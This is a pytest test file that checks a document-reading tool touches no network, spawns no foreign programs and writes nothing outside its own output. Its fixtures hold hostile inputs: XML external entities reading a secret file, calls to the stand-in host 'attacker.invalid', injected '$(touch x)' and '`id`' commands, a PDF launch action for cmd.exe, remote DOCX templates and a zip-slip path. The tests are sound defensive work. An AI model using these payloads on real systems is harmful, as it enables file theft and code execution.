"""No network and no writing elsewhere, also where a report asks for it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from io import BytesIO
from pathlib import Path
from typing import NamedTuple

import pytest

from tests.calling import FAULTY, ROOT
from tests.generator import generate
from tests.watched import SECRET

HOST = "http://attacker.invalid"


class Event(NamedTuple):
    kind: str
    event: str
    what: list[str]


class Place:
    """A home, a folder of reports and a folder for temporary files, each of its own."""

    def __init__(self, top: Path) -> None:
        self.home, self.work, self.temporary = top / "home", top / "work", top / "temporary"
        for folder in (self.home, self.work, self.temporary):
            folder.mkdir()
        self.log = top / "log"
        self.store = self.home / ".local/share/gouji"
        self.state = self.home / ".local/state/gouji"

    def watched(self, *call: str | Path) -> tuple[int, list[Event], str]:
        """The status of a call, all that it did to the world, and what it printed."""
        kept = {name: os.environ[name] for name in ("PATH", "SYSTEMROOT") if name in os.environ}
        self.log.write_text("")
        done = subprocess.run(
            [sys.executable, "-B", "-m", "tests.watched", self.log, *call],
            cwd=self.work,
            env={
                **kept,
                "HOME": str(self.home),
                "TMPDIR": str(self.temporary),
                "PYTHONPATH": str(ROOT),
                "LC_ALL": "C.UTF-8",
            },
            capture_output=True,
            check=False,
            timeout=120,
        )
        lines = self.log.read_text("utf-8").splitlines()
        printed = (done.stdout + done.stderr).decode()
        assert "Traceback" not in printed, printed
        return done.returncode, [Event(**json.loads(line)) for line in lines], printed

    def strange(self, events: list[Event], *outputs: Path) -> list[Event]:
        """The events that are none of the program's business."""
        return [event for event in events if not self._is_fit(event, outputs)]

    def _is_fit(self, event: Event, outputs: tuple[Path, ...]) -> bool:
        match event:
            case Event("network", "socket.__new__", [_, family, *_]):
                # The pipe by which asyncio wakes itself; nobody else can have an end of it.
                return family == "1"
            case Event("process", "subprocess.Popen", [program, *_]):
                return program == sys.executable
            case Event("process", "os.fork", _):
                return True
            case Event("write", "os.mkdir", [folder]):
                own = Path(folder)
                drafts = self.state / "drafts"
                return own == drafts or any(
                    own in (each, *each.parents) for each in (self.store, self.state)
                )
            case Event("write", _, paths):
                return all(self._may_write(Path(path), outputs) for path in paths)
            case Event("library"):
                return True
        return False

    def _may_write(self, path: Path, outputs: tuple[Path, ...]) -> bool:
        own = (self.store, self.state, self.temporary)
        return (
            str(path) == os.devnull
            or any(each in (path, *path.parents) for each in own)
            or path in outputs
            or any(
                path.parent == output.parent and path.name.startswith(f".{output.name[:20]}.")
                for output in outputs
            )
        )


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


@pytest.mark.parametrize("format_name", ["md", "docx", "xlsx", "html", "csv", "json"])
def test_an_export_writes_its_file_and_the_audit(place: Place, format_name: str) -> None:
    out = place.work / f"out.{format_name}"
    status, events, _ = place.watched("export", FAULTY, "--output", out)
    assert status == 0
    assert place.strange(events, out) == []
    assert {event.kind for event in events} == {"write"}
    assert list(place.work.iterdir()) == [out]
    assert list(place.temporary.iterdir()) == [], "and clears up behind itself"
    assert [path.name for path in place.store.iterdir()][:1] != []


def test_calls_that_only_tell_touch_nothing(place: Place) -> None:
    for call in (("rules",), ("config", "path"), ("config", "keys"), ("check", str(FAULTY)),
                 ("--version",), (str(FAULTY),)):  # fmt: skip
        _, events, _ = place.watched(*call)
        assert [event for event in events if event.kind != "library"] == []
    assert list(place.home.iterdir()) == list(place.work.iterdir()) == []


def test_a_check_of_many_files_writes_its_output_only(place: Place) -> None:
    for number in range(4):
        (place.work / f"{number}.txt").write_bytes(FAULTY.read_bytes())
    out = place.work / "out.jsonl"
    call = ("check", place.work, "--format", "jsonl", "--jobs", "2", "--output", out)
    status, events, _ = place.watched(*call)
    assert status == 1
    assert place.strange(events, out) == []
    assert list(place.home.iterdir()) == []


def test_a_sitting_at_the_screen_writes_the_audit_the_settings_and_the_export(
    place: Place,
) -> None:
    report = place.work / "r.txt"
    report.write_bytes(FAULTY.read_bytes())
    _, events, _ = place.watched("screen", report)
    assert place.strange(events, place.work / "r-audit.md") == []
    assert sorted(path.name for path in place.work.iterdir()) == ["r-audit.md", "r.txt"]
    assert report.read_bytes() == FAULTY.read_bytes()


def hostile(secret: Path) -> dict[str, bytes]:
    """Reports of every kind that ask for the network, for other files, for programs."""
    page = generate(1, "html", "none").data.decode()
    asks = (
        f'<base href="{HOST}/"><link rel="stylesheet" href="{HOST}/s.css">'
        f'<style>@import url("{HOST}/i.css"); body {{ background: url(file://{secret}) }}</style>'
        f'<script src="{HOST}/x.js">fetch("{HOST}")</script><img src="{HOST}/p.png">'
        f'<img src="file://{secret}"><iframe src="{secret}"></iframe><object data="{HOST}/o">'
        f'</object><meta http-equiv="refresh" content="0;url={HOST}">'
    )
    entity = (
        f'<!DOCTYPE html [<!ENTITY e SYSTEM "file://{secret}"><!ENTITY n SYSTEM "{HOST}/n">'
        f'<!ENTITY % d SYSTEM "{HOST}/d.dtd"> %d;]>'
    )
    html = page.replace("<body>", f"<body>{asks}&e;&n;") if "<body>" in page else asks + page
    mht = (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=B\r\n\r\n--B\r\n"
        f"Content-Type: text/html; charset=utf-8\r\nContent-Location: {HOST}/a.html\r\n\r\n"
        f"{html}\r\n--B\r\nContent-Type: message/external-body; access-type=URL; "
        f'URL="{HOST}/b"\r\n\r\n--B--\r\n'
    )
    text = generate(1, "markdown", "none").data.decode()
    quoted = f"\n![x]({HOST}/p.png) <{HOST}> file://{secret} {secret} $(touch x) `id`\n"
    document = generate(1, "pdf", "none").data
    action = (
        f"/Type /Catalog /OpenAction << /S /Launch /F ({secret}) /Win << /F (cmd.exe) >> >> "
        f"/AA << /WC << /S /URI /URI ({HOST}) >> >> /URI << /Base ({HOST}) >>"
    )
    return {
        "page.html": html.encode(),
        "entity.html": (entity + html).encode(),
        "entity.xhtml": (f'<?xml version="1.0"?>{entity}' + html).encode(),
        "page.mht": mht.encode(),
        "text.md": (text + quoted).encode(),
        "plain.txt": (quoted + text).encode(),
        "word.docx": _docx(secret),
        "paper.pdf": document.replace(b"/Type /Catalog", action.encode()),
    }


def _docx(secret: Path) -> bytes:
    """A document with relations, fields, a template and entities from elsewhere."""
    out = BytesIO()
    relation = (
        '<Relationship Id="rX{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/{kind}" Target="{target}" TargetMode="External"/>'
    )
    more = "".join(
        relation.format(n=number, kind=kind, target=target)
        for number, (kind, target) in enumerate(
            (
                ("image", f"{HOST}/p.png"),
                ("attachedTemplate", f"{HOST}/t.dotm"),
                ("oleObject", f"file://{secret}"),
                ("subDocument", f"{HOST}/sub.docx"),
            )
        )
    )
    entity = f'<!DOCTYPE w [<!ENTITY e SYSTEM "file://{secret}"><!ENTITY n SYSTEM "{HOST}/n">]>'
    field = (
        f'<w:p><w:r><w:instrText>INCLUDETEXT "{secret}" INCLUDEPICTURE "{HOST}/p"</w:instrText>'
        "</w:r><w:r><w:t>&e;&n;</w:t></w:r></w:p>"
    )
    with (
        zipfile.ZipFile(BytesIO(generate(1, "docx", "none").data)) as old,
        zipfile.ZipFile(out, "w") as new,
    ):
        for name in old.namelist():
            text = old.read(name).decode("utf-8", "surrogateescape")
            if name.endswith("document.xml.rels"):
                text = text.replace("</Relationships>", f"{more}</Relationships>")
            if name == "word/document.xml":
                start = text.index("?>") + 2 if text.startswith("<?xml") else 0
                body = text[start:].replace("</w:body>", f"{field}</w:body>")
                text = text[:start] + entity + body
            new.writestr(name, text.encode("utf-8", "surrogateescape"))
        new.writestr("../../escaped.txt", "out of the package")
    return out.getvalue()


def test_a_report_that_asks_for_the_network_or_other_files_gets_neither(place: Place) -> None:
    secret = place.work.parent / f"{SECRET}.txt"
    secret.write_text("口令是一二三", "utf-8")
    files = hostile(secret)
    for name, data in files.items():
        (place.work / name).write_bytes(data)
    paths = [place.work / name for name in files]
    call: tuple[str | Path, ...] = ("check", *paths, "--format", "jsonl", "--with-text")
    _, events, printed = place.watched(*call)
    assert place.strange(events) == []
    assert "口令" not in printed
    read = [json.loads(line) for line in printed.splitlines() if line.startswith("{")]
    assert sum("tables" in each for each in read) >= 5, "most of them are reports all the same"
    _, events, _ = place.watched("read", *paths)
    assert place.strange(events) == []
    for name in ("page.html", "word.docx"):
        out = place.work / f"{name}.md"
        _, events, _ = place.watched("export", place.work / name, "--output", out)
        assert place.strange(events, out) == []
        assert "口令" not in out.read_text("utf-8") if out.exists() else True
    assert sorted(path.name for path in place.work.parent.iterdir()) == sorted(
        ["home", "work", "temporary", "log", secret.name]
    )


def test_the_watch_sees_what_it_is_meant_to_see(place: Place) -> None:
    """A guard that notices nothing would prove nothing."""
    code = (
        "import os, socket, subprocess, sys\n"
        "from pathlib import Path\n"
        "from tests.watched import watch\n"
        "watch(Path(sys.argv[1]))\n"
        "Path('elsewhere').write_text('x'); Path('elsewhere').rename('there')\n"
        "os.mkdir('made'); os.remove('there')\n"
        "subprocess.run(['true'])\n"
        "try: socket.getaddrinfo('localhost', 1)\n"
        "except OSError: pass\n"
        "socket.socket().close()\n"
        f"open('{SECRET}', 'w').close(); open('{SECRET}').close()\n"
    )
    subprocess.run(
        [sys.executable, "-c", code, str(place.log)],
        cwd=place.work,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        check=True,
    )
    events = [Event(**json.loads(line)) for line in place.log.read_text("utf-8").splitlines()]
    seen = {event.event for event in place.strange(events)}
    assert seen >= {"open", "os.rename", "os.remove", "os.mkdir", "subprocess.Popen",
                    "socket.getaddrinfo", "socket.__new__"}  # fmt: skip
    assert {event.kind for event in events} >= {"write", "network", "process", "secret"}
